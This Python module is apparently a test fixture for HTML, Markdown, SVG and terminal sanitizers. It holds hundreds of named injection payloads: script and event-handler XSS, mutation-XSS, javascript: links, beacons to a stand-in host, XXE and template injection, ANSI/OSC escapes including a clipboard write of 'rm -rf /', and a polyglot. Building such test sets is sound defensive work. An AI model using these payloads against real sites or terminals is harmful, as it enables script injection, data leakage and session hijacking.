"""Hostile text, as it may stand in a table's name, a log line, a user's input or a notebook that was tampered with.

A payload that runs writes the number 666 to the browser's console; one that loads asks a host that begins
with x666. Whoever opens many of them replaces the number by one of each payload's own.
"""

RUN = "console.log(666)"
AWAY = "http://x666.evil.example"
IMG = f"<img src=x onerror={RUN}>"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script_upper": f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>",
    "script_unclosed": f"<script>{RUN}//",
    "script_split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script_slash": f"<script/x>{RUN}</script/y>",
    "script_module": f"<script type=module>{RUN}</script>",
    "script_data": f'<script src="data:text/javascript,{RUN}"></script>',
    "script_speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}/s"]}}]}}</script>',
    "script_nul": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script_utf7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "script_fullwidth": f"＜script＞{RUN}＜/script＞",
    "script_end_of_style": f"</style><script>{RUN}</script>",
    "end_of_title": f"</title><script>{RUN}</script>",
    "end_of_pre": f"</code></pre></details><script>{RUN}</script>",
    "end_of_raw_text": f"</textarea></noscript></template></xmp></iframe><script>{RUN}</script>",
    "end_of_attribute": f'" onmouseover="{RUN}" x="',
    "end_of_attribute_single": f"' onfocus='{RUN}' autofocus='",
    "end_of_tag": f"\"'><script>{RUN}</script>",
}
IMAGES = {
    "image_error": IMG,
    "image_slashes": f"<img/src=x/onerror={RUN}>",
    "image_lines": f"<img src=x\nonerror\n=\n{RUN}\n>",
    "image_beacon": f'<img src="{AWAY}/beacon.png">',
    "image_set": f'<img srcset="{AWAY}/s.png 1x">',
    "picture": f'<picture><source srcset="{AWAY}/p.png"><img src="data:,"></picture>',
    "image_map": f'<img usemap=#m src="data:,"><map name=m><area href="javascript:{RUN}" shape=default></map>',
    "video": f'<video poster="{AWAY}/p"></video>',
    "video_error": f"<video onerror={RUN}><source src=x></video>",
    "source_error": f"<video><source src=x onerror={RUN}></video>",
    "audio": f'<audio src="{AWAY}/a.mp3" preload=auto></audio>',
    "track": f'<video src="data:,"><track default src="{AWAY}/t.vtt"></video>',
}
DRAWN = {
    "svg_onload": f"<svg onload={RUN}>",
    "svg_script": f"<svg><script>{RUN}</script></svg>",
    "svg_script_href": f'<svg><script href="data:text/javascript,{RUN}"/></svg>',
    "svg_animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg_set": f"<svg><set onbegin={RUN} attributeName=x to=1></svg>",
    "svg_animate_link": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>press</text></a>",
    "svg_link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>press</text></a></svg>',
    "svg_foreign": f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    "svg_use": f'<svg><use href="{AWAY}/x.svg#a"/></svg>',
    "svg_use_data": f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f"<image href='1' onerror='{RUN}'/></svg>#x\"/></svg>",
    "svg_image": f'<svg><image href="{AWAY}/i.png" width=9 height=9></svg>',
    "svg_image_error": f"<svg><image href=x onerror={RUN}></svg>",
    "svg_filter": f'<svg><filter id=f><feImage href="{AWAY}/f.png"/></filter><rect filter=url(#f) width=9 height=9>',
    "svg_style": f"<svg><style>@import url({AWAY}/s.css);</style></svg>",
    "math_link": f'<math><mrow href="javascript:{RUN}"><mtext>press</mtext></mrow></math>',
}
MUTATIONS = {
    "math": f"<math><mtext><table><mglyph><style>{IMG}",
    "math_annotation": f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>',
    "mutation_style": f'<svg></p><style><a id="</style>{IMG}">',
    "mutation_noscript": f'<noscript><p title="</noscript>{IMG}">',
    "mutation_forms": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMG}">',
    "mutation_table": f"<table><style>{IMG}</style>",
    "mutation_select": f'<select><template><style><!--</style><a rel="--></style></template></select>{IMG}">',
    "mutation_xmp": f'<xmp><p title="</xmp>{IMG}">',
    "mutation_plaintext": f"<plaintext>{IMG}",
    "comment": f"<!--><script>{RUN}</script>-->",
    "comment_bang": f"<!--a--!>{IMG}-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "cdata_svg": f"<svg><![CDATA[></svg>{IMG}]]>",
    "instruction": f'<?xml-stylesheet href="javascript:{RUN}"?>{IMG}',
    "shadow": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "clobber": "<form id=main name=body><input name=querySelector><input name=attributes></form>",
}
FRAMES = {
    "iframe": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe_entities": f"<iframe srcdoc=&#60;img&#32;src=x&#32;onerror={RUN}&#62;></iframe>",
    "iframe_javascript": f"<iframe src=javascript:{RUN}></iframe>",
    "iframe_data": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "iframe_away": f'<iframe src="{AWAY}/f"></iframe>',
    "frameset": f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    "object": f'<object data="javascript:{RUN}"></object>',
    "object_data": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f'<embed src="{AWAY}/e">',
    "embed_javascript": f'<embed src="javascript:{RUN}">',
}
HEADS = {
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/r">',
    "meta_refresh_data": f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{RUN}</script>">',
    "meta_policy": f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">{IMG}",
    "base": f'<base href="{AWAY}/"><img src=b.png>',
    "base_target": f'<base href="{AWAY}/" target=_blank>',
    "link_sheet": f'<link rel=stylesheet href="{AWAY}/x.css">',
    "link_preload": f'<link rel=preload as=image href="{AWAY}/p.png">',
    "link_prefetch": f'<link rel=prefetch href="{AWAY}/p">',
    "link_module": f'<link rel=modulepreload href="{AWAY}/m.js">',
    "link_icon": f'<link rel=icon href="{AWAY}/i.ico">',
    "link_manifest": f'<link rel=manifest href="{AWAY}/m.json" crossorigin=use-credentials>',
    "link_preconnect": f'<link rel=preconnect href="{AWAY}/">',
    "link_dns": f'<link rel=dns-prefetch href="{AWAY}/">',
    "style_import": f"<style>@import url({AWAY}/x.css);</style>",
    "style_background": f"<style>body{{background:url({AWAY}/b)}}</style>",
    "style_font": f"<style>@font-face{{font-family:f;src:url({AWAY}/f)}}*{{font-family:f!important}}</style>x",
    "style_attribute": f'<p style="background:url({AWAY}/x)">x</p>',
    "background": f'<table background="{AWAY}/t"><tr><td>x</table>',
    "body_background": f'<body background="{AWAY}/b">',
}
FORMS = {
    "form": f'<form action="{AWAY}/f"><button>press</button></form>',
    "form_action": f'<form><button formaction="javascript:{RUN}">press</button></form>',
    "form_away": f'<form id=f></form><button form=f formaction="{AWAY}/g">press</button>',
    "form_image": f'<form><input type=image src="{AWAY}/i.png"></form>',
    "form_dialog": f"<dialog open onclose={RUN}><form method=dialog><button>press</button></form></dialog>",
    "input_focus": f"<input autofocus onfocus={RUN}>",
    "select_focus": f"<select autofocus onfocus={RUN}></select>",
    "textarea_focus": f"<textarea autofocus onfocus={RUN}></textarea>",
    "javascript_link": f'<a href="javascript:{RUN}">press</a>',
    "javascript_tab": f'<a href="java\tscript:{RUN}">press</a>',
    "javascript_entity": f'<a href="java&#115;cript&colon;{RUN}">press</a>',
    "javascript_control": f'<a href="\x01javascript:{RUN}">press</a>',
    "link_ping": f'<a href="#main" ping="{AWAY}/ping">press</a>',
    "link_away": f'<a href="{AWAY}/l">press</a>',
    "link_blank": f'<a href="{AWAY}/w" target=_blank>press</a>',
    "link_download": f'<a href="{AWAY}/d" download>press</a>',
}
HANDLERS = {
    "body_onload": f"<body onload={RUN}>",
    "body_onpageshow": f"<body onpageshow={RUN}>",
    "body_onhashchange": f'<body onhashchange={RUN}><a href="#other">press</a>',
    "details_ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "popover_onbeforetoggle": f"<button popovertarget=p>press</button><div popover id=p onbeforetoggle={RUN}>x</div>",
    "popover_ontoggle": f"<button popovertarget=p>press</button><div popover id=p ontoggle={RUN}>x</div>",
    "content_visibility": f"<p oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>x</p>",
    "animation": f'<style>@keyframes x{{}}</style><p style="animation:x 1ms" onanimationstart={RUN}>x</p>',
    "animation_end": f'<style>@keyframes x{{}}</style><p style="animation:x 1ms" onanimationend={RUN}>x</p>',
    "onclick": f"<p onclick={RUN}>press</p>",
    "onfocusin": f"<p tabindex=1 onfocusin={RUN}>press</p>",
    "onpointerover": f"<p onpointerover={RUN} style=position:fixed;inset:0>x</p>",
    "accesskey": f"<p accesskey=x onclick={RUN}>press</p>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "command": f"<button commandfor=d command=show-modal>press</button><dialog id=d ontoggle={RUN}>x</dialog>",
}
HTML = {**SCRIPTS, **IMAGES, **DRAWN, **MUTATIONS, **FRAMES, **HEADS, **FORMS, **HANDLERS}

MARKDOWN = {
    "markdown_html": f"text <b>{IMG}</b>\n\n<script>{RUN}</script>",
    "markdown_block": f"<div>\n\n{IMG}\n\n</div>",
    "markdown_javascript": f"[press](javascript:{RUN})",
    "markdown_javascript_case": f"[press](JaVaScRiPt:{RUN})",
    "markdown_javascript_entity": f"[press](java&#115;cript&colon;{RUN})",
    "markdown_javascript_tab": f"[press](<java\tscript:{RUN}>)",
    "markdown_data": f"[press](data:text/html,<script>{RUN}</script>)",
    "markdown_vbscript": "[press](  vbscript:msgbox(1) )",
    "markdown_autolink": f"<javascript:{RUN}>",
    "markdown_autolink_away": f"<{AWAY}/auto>",
    "markdown_bare": f"{AWAY}/bare",
    "markdown_link_away": f"[press]({AWAY}/l)",
    "markdown_file": "[press](file:///etc/hostname)",
    "markdown_relative": "[press](../../../etc/hostname) [up](..)",
    "markdown_image": f"![x]({AWAY}/beacon.png)",
    "markdown_image_javascript": f'![x" onerror="{RUN}](x)',
    "markdown_reference": f"[press][1]\n\n[1]: javascript:{RUN}",
    "markdown_title": f"[press](#main 'y\" onclick=\"{RUN}')",
    "markdown_fence": f"```html\n<script>{RUN}</script>\n```",
    "markdown_fence_name": f'```"><script>{RUN}</script>\nx\n```',
    "markdown_table": f"| a | b |\n|---|---|\n| {IMG} | <script>{RUN}</script> |",
    "markdown_heading": f"# {IMG}\n\n<h1 id=main>{IMG}</h1>",
    "markdown_comment": f"<!--\n\n--><script>{RUN}</script>",
}
STREAM = {
    "ansi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H gone",
    "ansi_html": f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    "ansi_split": f"<scr\x1b[0mipt>{RUN}</scr\x1b[0mipt>",
    "osc_link": f"\x1b]8;;{AWAY}/o\x07press\x1b]8;;\x07",
    "osc_link_javascript": f"\x1b]8;;javascript:{RUN}\x1b\\press\x1b]8;;\x1b\\",
    "osc_title": "\x1b]0;owned\x1b\\ \x9b31m",
    "osc_clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07 copied",
    "device_control": "\x1bP$q q\x1b\\ \x90+q544e\x9c asked",
    "right_to_left": "invoice\u202egnp.exe\u2066\u2069\u200b\ufeff",
    "controls": "a\x00b\x07c\x08d\x7fe\u0085\u2028f",
    "carriage_return": "all is lost\rall is well",
    "carriage_return_html": f"<b>50%\r<script>{RUN}</script>",
    "replacement": b"half \xc3 of \xff\xfe, overlong \xc0\xbcscript\xc0\xbe \xed\xa0\x80".decode("utf-8", "replace"),
    "escaped_bytes": b"half \xc3 of \xff, overlong \xc0\xbc".decode("utf-8", "surrogateescape"),
    "surrogate": "half \ud83d of a pair",
    "tags": "seen \U000e0041\U000e0042 unseen",
}
_SVG = 'xmlns="http://www.w3.org/2000/svg"'
SVG = {
    "drawing_script": f"<svg {_SVG}><script>{RUN}</script></svg>",
    "drawing_onload": f'<svg {_SVG} onload="{RUN}"/>',
    "drawing_foreign": f'<svg {_SVG}><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/>'
    "</foreignObject></svg>",
    "drawing_use": f'<svg {_SVG}><use href="{AWAY}/u.svg#a"/></svg>',
    "drawing_image": f'<svg {_SVG}><image href="{AWAY}/i.png"/></svg>',
    "drawing_link": f'<svg {_SVG}><a href="javascript:{RUN}"><text y="20">press</text></a></svg>',
    "drawing_animate": f'<svg {_SVG}><rect><animate attributeName="x" onbegin="{RUN}" dur="1s"/></rect></svg>',
    "drawing_style": f"<svg {_SVG}><style>@import url({AWAY}/s.css);</style></svg>",
    "drawing_fill": f'<svg {_SVG}><rect fill="url({AWAY}/f#a)" width="9" height="9"/></svg>',
    "drawing_entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{AWAY}/e">]><svg {_SVG}><text>&x;</text></svg>',
    "drawing_sheet": f'<?xml-stylesheet href="{AWAY}/s.css"?><svg {_SVG}/>',
    "drawing_html": f"<svg {_SVG}></svg>{IMG}",
}
OTHER = {
    "template": "{{ 7*7 }}{% for x in y %}{{ config }}",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#x202E; &#60;img src=x onerror={RUN}&#62;",
    "long": "A" * 30_000,
}
ALL_AT_ONCE = (
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>"
)
"""One text that runs wherever it comes out as HTML, as an attribute, as an address or as a script."""

PAYLOADS = {**HTML, **MARKDOWN, **STREAM, **SVG, **OTHER, "all_at_once": ALL_AT_ONCE}
